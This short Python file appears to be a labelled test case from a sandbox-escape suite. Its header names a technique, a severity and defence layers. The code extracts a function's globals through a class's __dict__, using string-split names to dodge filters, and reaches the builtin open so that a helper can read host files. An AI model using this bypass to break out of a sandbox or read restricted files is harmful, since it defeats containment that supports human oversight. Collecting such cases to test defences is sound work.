# technique: a descriptor out of a class's __dict__, asked by hand
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json

def trick():
    functions = type(json.dumps)
    space = functions.__dict__["__glo" + "bals__"].__get__(json.dumps)
    return space["__built" + "ins__"]["open"]

read_host(trick)
